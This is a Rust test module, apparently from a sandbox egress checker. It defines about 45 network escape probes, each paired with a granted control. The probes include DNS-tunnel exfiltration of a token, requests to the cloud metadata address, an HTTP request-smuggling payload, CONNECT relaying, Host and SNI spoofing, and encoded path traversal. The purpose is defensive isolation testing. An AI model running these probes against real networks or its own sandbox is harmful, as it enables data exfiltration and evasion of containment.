//! The attacks: what each tries, and the granted way to do the same.

use super::acts::NetworkAct;
use super::stage::{StagePorts, TOKEN};

/// What happens before an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum After {
    Nothing,
    /// This grant is taken back, with the port of the TLS server for `PORT`.
    Revoking(&'static str),
    /// What answers is killed.
    Killing,
}

/// One attack and its control.
#[derive(Debug)]
pub(super) struct NetworkProbe {
    pub(super) name: &'static str,
    pub(super) act: NetworkAct,
    /// The same the granted way, which must be answered, and heard outside.
    pub(super) control: Option<NetworkAct>,
    pub(super) after: After,
}

const GRANTED: &str = "granted.probe.example";
const WEB: &str = "web.probe.example";
const DETAIL: &str = "detail.probe.example";
const DENIED: &str = "denied.probe.example";

fn text(target: &str, port: u16, text: &str) -> NetworkAct {
    NetworkAct::Text {
        target: target.to_owned(),
        port,
        text: text.to_owned(),
    }
}

fn hello(target: &str, port: u16, server_name: &str) -> NetworkAct {
    NetworkAct::Hello {
        target: target.to_owned(),
        port,
        server_name: server_name.to_owned(),
    }
}

fn packet(target: &str, port: u16) -> NetworkAct {
    NetworkAct::Packet {
        target: target.to_owned(),
        port,
        text: TOKEN.to_owned(),
    }
}

fn question(server: &str, tcp: bool, kind: u16, name: &str) -> NetworkAct {
    NetworkAct::Question {
        server: server.to_owned(),
        tcp,
        kind,
        name: name.to_owned(),
    }
}

/// Every attack, the one that ends what answers last.
pub(super) fn all(ports: StagePorts) -> Vec<NetworkProbe> {
    [
        addresses(ports),
        other_ports(ports),
        names(),
        first_bytes(ports),
        requests(ports),
        details(ports),
        after(ports),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn probe(name: &'static str, act: NetworkAct, control: NetworkAct) -> NetworkProbe {
    NetworkProbe {
        name,
        act,
        control: Some(control),
        after: After::Nothing,
    }
}

/// A hello as it is granted.
fn granted(ports: StagePorts) -> NetworkAct {
    hello(GRANTED, ports.tls, GRANTED)
}

fn token(text_of: &str) -> String {
    text_of.replace("TOKEN", TOKEN)
}

/// Addresses instead of names.
fn addresses(ports: StagePorts) -> Vec<NetworkProbe> {
    let StagePorts { tls, other, .. } = ports;
    let by_hello = |name, act| probe(name, act, granted(ports));
    vec![
        by_hello(
            "address_on_a_granted_port",
            hello("203.0.113.9", tls, TOKEN),
        ),
        by_hello(
            "address_with_a_granted_server_name",
            hello("203.0.113.9", tls, GRANTED),
        ),
        by_hello("host_loopback", text("127.0.0.1", tls, TOKEN)),
        by_hello("host_loopback_other_port", text("127.0.0.1", other, TOKEN)),
        by_hello("host_loopback_other_name", text("127.1.2.3", tls, TOKEN)),
        by_hello("any_address", text("0.0.0.0", tls, TOKEN)),
        by_hello(
            "metadata_address",
            text("169.254.169.254", 80, &token("GET /TOKEN HTTP/1.0\n\n")),
        ),
        by_hello("private_address", hello("10.0.0.1", tls, TOKEN)),
        by_hello(
            "private_address_of_a_home",
            hello("192.168.1.1", tls, TOKEN),
        ),
        by_hello("carrier_address", hello("100.64.0.1", tls, TOKEN)),
        by_hello("link_local_v6", hello("fe80::1", tls, TOKEN)),
        by_hello("address_v6", hello("2001:db8::1", tls, TOKEN)),
        by_hello("loopback_v6", hello("::1", tls, TOKEN)),
        by_hello("mapped_address", hello("::ffff:127.0.0.1", tls, TOKEN)),
        by_hello("translated_address", hello("64:ff9b::7f00:1", tls, TOKEN)),
        by_hello("multicast", text("224.0.0.1", tls, TOKEN)),
        by_hello("broadcast", text("255.255.255.255", tls, TOKEN)),
        by_hello(
            "address_that_stands_for_no_name",
            hello("198.18.77.77", tls, TOKEN),
        ),
        by_hello(
            "address_that_stands_for_no_name_high",
            hello("198.19.255.254", tls, GRANTED),
        ),
    ]
}

/// Other ports and protocols.
fn other_ports(ports: StagePorts) -> Vec<NetworkProbe> {
    let StagePorts { tls, other, .. } = ports;
    let by_hello = |name, act| probe(name, act, granted(ports));
    vec![
        by_hello("other_port_of_a_granted_name", text(GRANTED, other, TOKEN)),
        by_hello("dns_over_tls", hello("9.9.9.9", 853, TOKEN)),
        by_hello("dns_over_https", hello("9.9.9.9", 443, TOKEN)),
        by_hello("quic", packet("203.0.113.9", 443)),
        by_hello("datagram_to_a_granted_port", packet(GRANTED, tls)),
        by_hello("datagram_to_loopback", packet("127.0.0.1", tls)),
        by_hello("datagram_to_a_clock", packet("203.0.113.9", 123)),
        by_hello(
            "taking_the_port_of_the_door",
            NetworkAct::Listen { port: tls },
        ),
        by_hello("taking_the_port_of_names", NetworkAct::Listen { port: 53 }),
    ]
}

/// Names that were not granted, and names as messages.
fn names() -> Vec<NetworkProbe> {
    let asked = |name, act| probe(name, act, question("127.0.0.1", false, 1, GRANTED));
    let secret = format!("{TOKEN}.{DENIED}");
    vec![
        asked("denied_name", question("127.0.0.1", false, 1, &secret)),
        asked(
            "name_below_a_granted_one",
            question("127.0.0.1", false, 1, &format!("{TOKEN}.{GRANTED}")),
        ),
        // Another sandbox's, which no rule and no publication gives.
        asked(
            "neighbour_by_name",
            question("127.0.0.1", false, 1, "neighbour.lula.internal"),
        ),
        asked(
            "name_above_a_granted_one",
            question("127.0.0.1", false, 1, "probe.example"),
        ),
        asked(
            "dns_tunnel_over_tcp",
            question("127.0.0.1", true, 1, &secret),
        ),
        asked(
            "dns_tunnel_in_text",
            question("127.0.0.1", false, 16, &secret),
        ),
        asked(
            "dns_tunnel_in_mail",
            question("127.0.0.1", false, 15, &secret),
        ),
        asked(
            "dns_tunnel_in_null",
            question("127.0.0.1", false, 10, &secret),
        ),
        asked("public_resolver", question("9.9.9.9", false, 1, &secret)),
        asked(
            "public_resolver_over_tcp",
            question("9.9.9.9", true, 1, &secret),
        ),
        asked("zone_transfer", question("127.0.0.1", true, 252, DENIED)),
    ]
}

/// Names that lead where none may, and another name in TLS than the one that was asked for.
fn first_bytes(ports: StagePorts) -> Vec<NetworkProbe> {
    let StagePorts { tls, .. } = ports;
    let by_hello = |name, act| probe(name, act, granted(ports));
    vec![
        by_hello(
            "name_of_the_metadata_service",
            hello("metadata.probe.example", tls, TOKEN),
        ),
        by_hello("name_of_multicast", hello("many.probe.example", tls, TOKEN)),
        by_hello(
            "rebound_name",
            hello("bound.probe.example", tls, "bound.probe.example"),
        ),
        by_hello("other_server_name", hello(GRANTED, tls, DENIED)),
        by_hello("no_server_name", hello(GRANTED, tls, "")),
        by_hello(
            "server_name_of_an_address",
            hello(GRANTED, tls, "127.0.0.1"),
        ),
        by_hello("no_tls_at_all", text(GRANTED, tls, TOKEN)),
    ]
}

/// Another name in HTTP than the one that was asked for.
fn requests(ports: StagePorts) -> Vec<NetworkProbe> {
    let StagePorts { web, .. } = ports;
    let request = |line: &str, rest: &str| text(WEB, web, &format!("{line}\n{rest}\n\n"));
    let rest = format!("Host: {WEB}:{web}\nConnection: close");
    let by_request = |name, act| probe(name, act, request("GET /fine HTTP/1.1", &rest));
    vec![
        by_request(
            "other_host",
            request(&token("GET /TOKEN HTTP/1.1"), &format!("Host: {DENIED}")),
        ),
        by_request(
            "no_host",
            request(&token("GET /TOKEN HTTP/1.1"), "Connection: close"),
        ),
        by_request(
            "two_hosts",
            request(
                &token("GET /TOKEN HTTP/1.1"),
                &format!("Host: {WEB}\nHost: {DENIED}"),
            ),
        ),
        by_request(
            "other_host_in_the_target",
            request(
                &token(&format!("GET http://{DENIED}/TOKEN HTTP/1.1")),
                &format!("Host: {WEB}"),
            ),
        ),
        by_request(
            "relayed_connect",
            request(
                &token(&format!("CONNECT {DENIED}:443 HTTP/1.1")),
                &token(&format!("Host: {DENIED}:443\nX: TOKEN")),
            ),
        ),
        by_request(
            "smuggled_request",
            request(
                "POST /a HTTP/1.1",
                &token(&format!(
                    "Host: {WEB}\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\nGET /TOKEN HTTP/1.1\nHost: {DENIED}"
                )),
            ),
        ),
        by_request("server_name_on_the_web", hello(WEB, web, TOKEN)),
    ]
}

/// Requests on a host where only some are granted.
fn details(ports: StagePorts) -> Vec<NetworkProbe> {
    let StagePorts { detail, .. } = ports;
    let request = |line: &str| {
        let rest = format!("Host: {DETAIL}:{detail}\nContent-Length: 0\nConnection: close");
        text(DETAIL, detail, &token(&format!("{line}\n{rest}\n\n")))
    };
    [
        ("other_method", "POST /open/TOKEN HTTP/1.1"),
        ("other_path", "GET /closed/TOKEN HTTP/1.1"),
        ("path_that_climbs", "GET /open/../closed/TOKEN HTTP/1.1"),
        (
            "path_that_climbs_in_code",
            "GET /open/%2e%2e/closed/TOKEN HTTP/1.1",
        ),
    ]
    .into_iter()
    .map(|(name, line)| probe(name, request(line), request("GET /open/fine HTTP/1.1")))
    .collect()
}

/// What was granted before.
fn after(ports: StagePorts) -> Vec<NetworkProbe> {
    let revoked = "revoked.probe.example";
    vec![
        NetworkProbe {
            name: "revoked_name",
            act: hello(revoked, ports.tls, revoked),
            control: None,
            after: After::Revoking("revoked.probe.example:PORT private"),
        },
        NetworkProbe {
            name: "killed_engine",
            act: granted(ports),
            control: None,
            after: After::Killing,
        },
    ]
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn attacks_have_names_of_their_own_and_differ_from_their_control() {
        let all = all(StagePorts {
            tls: 1,
            web: 2,
            detail: 3,
            other: 4,
        });
        assert!(all.len() >= 40, "{}", all.len());
        let names: BTreeSet<_> = all.iter().map(|probe| probe.name).collect();
        assert_eq!(names.len(), all.len());
        for probe in &all {
            assert_ne!(Some(&probe.act), probe.control.as_ref(), "{}", probe.name);
        }
    }
}
